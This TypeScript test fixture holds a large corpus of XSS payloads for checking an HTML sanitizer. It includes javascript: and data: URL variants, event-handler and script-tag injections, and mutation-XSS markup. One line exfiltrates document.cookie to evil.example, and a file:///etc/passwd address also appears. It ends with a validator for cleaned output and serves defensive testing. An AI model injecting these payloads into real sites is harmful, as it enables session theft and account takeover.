// Markup and addresses that run a script in careless pages: the known families of such payloads, each in its usual variants; and what tells
// that something of it is left.

import { RICH_TEXT_TAGS, toSafeLink } from '#contract/platform/validation/rich-text.ts';

const CALLS = ['alert(1)', 'alert`1`', 'eval(atob("YWxlcnQoMSk="))', 'top["al"+"ert"](1)', 'fetch("//evil.example/"+document.cookie)'];

/** Addresses that are programs, or lead to another site than they say. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...CALLS.map((call) => `javascript:${call}`),
  ...['JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', '\u0001javascript:alert(1)', 'java\tscript:alert(1)'],
  ...['java\nscript:alert(1)', 'java\rscript:alert(1)', 'javascript\t:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)'],
  ...['&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)', 'java&#x09;script:alert(1)', 'java&Tab;script:alert(1)'],
  ...[
    'java&NewLine;script:alert(1)',
    'javascript://%0aalert(1)',
    'javascript://https://ok.example/%0aalert(1)',
    '\u200bjavascript:alert(1)',
  ],
  ...['vbscript:msgbox(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'data:text/html,<script>alert(1)</script>', 'blob:https://x/1'],
  ...['data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'file:///etc/passwd'],
  ...['//evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', '///evil.example', 'view-source:javascript:alert(1)'],
  ...['feed:javascript:alert(1)', 'jar:https://evil.example!/x', 'ms-its:x', 'http:evil', 'https:evil', 'https:///evil.example'],
];

const HANDLERS = [
  ...['onclick', 'onload', 'onerror', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onstart', 'onbegin', 'onanimationstart'],
  ...['ontransitionend', 'onpointerenter', 'onwheel', 'oncopy', 'onpaste', 'onhashchange', 'onpageshow', 'onbeforetoggle', 'onscrollend'],
  ...['oncontentvisibilityautostatechange', 'onauxclick', 'onkeydown', 'onsubmit', 'oninput', 'onmessage'],
];

const TAGS = ['img', 'svg', 'body', 'input', 'details', 'video', 'audio', 'marquee', 'p', 'a', 'iframe', 'object', 'select', 'style'];

/** A handler in a tag, quoted and separated in all the ways that browsers read. */
const withHandlers = HANDLERS.flatMap((handler, index) => {
  const tag = TAGS[index % TAGS.length] ?? 'img';
  return [
    `<${tag} ${handler}=alert(1)>`,
    `<${tag} src=x ${handler}="alert(1)" autofocus tabindex=1>`,
    `<${tag}/${handler}='alert(1)'/x>`,
    `<${tag.toUpperCase()} ${handler.toUpperCase()}=alert(1)//`,
    `<${tag}\n${handler}\n=\nalert(1)\n>`,
    `<${tag}\u000c${handler}=&#97;&#108;&#101;&#114;&#116;(1)>`,
  ];
});

const scripts = CALLS.flatMap((call) => [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script/x>${call}</script\t\n>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href="data:,${call}"/>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
  `<xmp><script>${call}</script></xmp>`,
  `"><script>${call}</script>`,
  `'--></style></script><script>${call}</script>`,
  `\u0000<scr\u0000ipt>${call}</script>`,
]);

/** Parsers of markup disagree on these: what is text to one is a tag to the next. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<noframes><p title="</noframes><svg onload=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<title><a href="</title><img src onerror=alert(1)>">',
  '<iframe><img title="</iframe><img src onerror=alert(1)>">',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<a href="x`y` onmouseover=alert(1)//">x</a>',
  '<img alt="``onerror=alert(1)" src=x>',
  '<p title="&quot; onmouseover=&quot;alert(1)">x</p>',
  '<table><td background="javascript:alert(1)">',
  '<listing>&lt;img src onerror=alert(1)&gt;</listing>',
  '<plaintext><img src onerror=alert(1)>',
  '<style>@import "javascript:alert(1)";</style>',
  '<p style="background:url(javascript:alert(1));behavior:url(x.htc);-moz-binding:url(x#y);width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999"><a href="https://evil.example">x</a></div>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><frameset onload=alert(1)>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=image><keygen autofocus onfocus=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  '<svg><foreignObject><img src onerror=alert(1)></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<video><source onerror=alert(1)></video><video poster=javascript:alert(1)>',
  '<input type=image src=x formaction=javascript:alert(1)><label for=x onclick=alert(1)>x</label>',
  '<a href="x" id=__proto__ name=body class=mantine-Overlay-root>x</a><img name=getElementById>',
  '<img src="/api/logout"><img src="https://tracker.example/pixel.gif"><img srcset="x 1x" src=x>',
  '<img src="/api/attachments/image/../../logout"><img src="/api/attachments/image/abcdefghijklmnopqrstuv/../x">',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{alert(1)}<%= alert(1) %>#{alert(1)}',
  '\u202e<script>alert(1)</script>\u202c',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
];

const links = HOSTILE_ADDRESSES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_blank>x</a>`,
  `<img src="${address}">`,
]);

export const HOSTILE_MARKUP: readonly string[] = [...new Set([...scripts, ...withHandlers, ...mutations, ...links])];

const TAG = /<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*) ?\/?>/g;

/** Every sign of markup in a cleaned text is a tag of the list with attributes of the list, and leads nowhere bad; returns what is not. */
export function findMarkupFaults(html: string): string[] {
  const rest = html.replace(TAG, '');
  const faults = /[<>]/.test(rest) ? [`stray markup: ${rest}`] : [];
  for (const [whole, tag = '', attributes = ''] of html.matchAll(TAG)) {
    const allowed: readonly string[] | undefined = (RICH_TEXT_TAGS as Record<string, readonly string[]>)[tag];
    if (allowed === undefined) faults.push(whole);
    for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (!(allowed?.includes(name) || (tag === 'a' && name === 'rel'))) faults.push(whole);
      if (name === 'href' && toSafeLink(value.replaceAll('&amp;', '&')) === null) faults.push(whole);
      if (name === 'src' && !/^\/api\/attachments\/image\/[\w-]{22}$/.test(value)) faults.push(whole);
    }
  }
  return faults;
}
